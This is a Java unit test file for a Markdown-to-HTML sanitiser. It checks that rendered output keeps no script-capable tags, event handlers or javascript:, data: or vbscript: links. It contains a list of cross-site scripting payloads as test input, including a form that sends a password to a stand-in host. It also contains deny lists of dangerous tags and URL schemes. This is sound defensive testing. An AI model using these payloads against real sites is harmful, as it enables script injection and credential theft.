package org.atrium.platform.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;

/** What people write comes out harmless, and whole. */
class MarkdownTest {

    private static final Set<String> RUNS = Set.of(
            "script",
            "iframe",
            "object",
            "embed",
            "svg",
            "math",
            "style",
            "link",
            "meta",
            "base",
            "form",
            "input",
            "button",
            "video",
            "audio",
            "template",
            "frame",
            "frameset",
            "applet");

    private static final Set<String> PLAIN = Set.of(
            "body",
            "p",
            "br",
            "hr",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "ul",
            "ol",
            "li",
            "blockquote",
            "pre",
            "code",
            "em",
            "strong",
            "a",
            "img");

    private static final Set<String> ADDRESSES = Set.of("href", "src", "action", "formaction", "xlink:href", "data");

    /** Tags people type: unclosed ones are repaired, which is not the specification's business. */
    private static final Pattern RAW_HTML = Pattern.compile("<[a-zA-Z/!?](?!ttps?:|ailto:)");

    private static final List<String> OWN_HOSTILE = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt&#58;alert(1))",
            "![x](data:text/html;base64,PHNjcmlwdD4=)",
            "<a href=\"vbscript:x\" style=\"position:fixed\">x</a>",
            "<svg/onload=alert(1)>",
            "```\n<script>alert(1)</script>\n```",
            "<style>*{display:none}</style><form action=//evil.example><input name=password></form>");

    @Test
    void nothingOwnRuns() {
        OWN_HOSTILE.forEach(MarkdownTest::assertHarmless);
    }

    @Test
    void nothingHostileRuns() throws IOException {
        List<Hostile> lines = SharedData.read("hostile.ndjson.gz", Hostile.class);
        assertThat(lines).hasSizeGreaterThan(3000);
        lines.forEach(line -> assertHarmless(line.text()));
    }

    @Test
    void nothingSafeIsLost() {
        assertThat(Markdown.html("# A\n\n**b** *c* ~~d~~ `e`\n\n> f\n\n1. g\n\n| h |\n|---|\n| i |"))
                .contains("<h1>A</h1>", "<strong>b</strong>", "<em>c</em>", "<del>d</del>", "<code>e</code>")
                .contains("<blockquote>", "<ol>", "<table tabindex=\"0\">", "<td>i</td>");
        assertThat(Markdown.html("https://example.org/a?b=1&c=2")).contains("href=\"https://example.org/a?b&#61;1");
    }

    /** Examples of the specification that use nothing but what is allowed come out as the specification says. */
    @Test
    void examplesOfTheSpecificationComeOutWhole() throws IOException {
        List<String> lost = new ArrayList<>();
        int compared = 0;
        for (Example example : SharedData.read("commonmark.ndjson.gz", Example.class)) {
            Document expected = body(example.html());
            if (isSafe(expected) && !RAW_HTML.matcher(example.markdown()).find() && !hasBareLink(expected)) {
                compared++;
                String actual = words(body(Markdown.html(example.markdown())));
                if (!actual.equals(words(expected))) {
                    lost.add(example.markdown() + " -> " + actual + " instead of " + words(expected));
                }
            }
        }
        assertThat(compared).isGreaterThan(450);
        assertThat(lost).isEmpty();
    }

    private static void assertHarmless(String text) {
        Document html = body(Markdown.html(text));
        for (Element element : html.body().getAllElements()) {
            assertThat(RUNS).as(text).doesNotContain(element.normalName());
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                assertThat(name).as(text).doesNotStartWith("on").isNotEqualTo("style");
                if (ADDRESSES.contains(name)) {
                    assertThat(attribute
                                    .getValue()
                                    .replaceAll("[\\s\\p{Cntrl}]", "")
                                    .toLowerCase(Locale.ROOT))
                            .as(text)
                            .doesNotStartWith("javascript:")
                            .doesNotStartWith("data:")
                            .doesNotStartWith("vbscript:");
                }
            }
        }
    }

    private static Document body(String html) {
        Document document = Jsoup.parseBodyFragment(html);
        document.outputSettings().prettyPrint(false);
        return document;
    }

    /** Bare links are an extension: the specification leaves them as words. */
    private static boolean hasBareLink(Document html) {
        Document words = html.clone();
        words.select("a").remove();
        return words.text().contains("://") || words.text().contains("@");
    }

    private static boolean isSafe(Document html) {
        return html.body().getAllElements().stream()
                .allMatch(element -> PLAIN.contains(element.normalName())
                        && isPlainAddress(element.attr("href"))
                        && isPlainAddress(element.attr("src")));
    }

    private static boolean isPlainAddress(String address) {
        return !address.contains(":") || address.matches("(?i)(https?|mailto):.*");
    }

    /** The document as tags and text, without what is added to links and the space between blocks. */
    private static String words(Document html) {
        StringBuilder words = new StringBuilder();
        html.body().getAllElements().forEach(element -> words.append(element.normalName())
                .append(' ')
                .append(element.attr("title"))
                .append(' '));
        return words + html.body().wholeText().replaceAll("\\s+", "");
    }

    public record Hostile(String kind, String text) {}

    public record Example(String markdown, String html) {}

    @Test
    void anEscapedLineIsShownAsItIs() {
        String line = "# *Nora* _x_ [y](z) `c` <b> 1. \\ a|b ~~s~~ 王小明 & Söhne";
        assertThat(Jsoup.parse(Markdown.html(Markdown.escaped("  " + line + "\n")))
                        .text())
                .isEqualTo(line);
    }

    /** Rows of a table are filled up to its head. */
    @Test
    void noTableIsMuchLargerThanItsSource() {
        for (int width : new int[] {300, 1500}) {
            String bomb = "|a".repeat(width) + "|\n" + "|-".repeat(width) + "|\n" + "a\n".repeat(width);

            assertThat(Markdown.html(bomb).length()).isLessThan(10 * bomb.length());
        }
        assertThat(Markdown.html("|a|b|\n|-|-|\n" + "|c|d|\n".repeat(2000))).contains("<td>d</td>");
    }
}
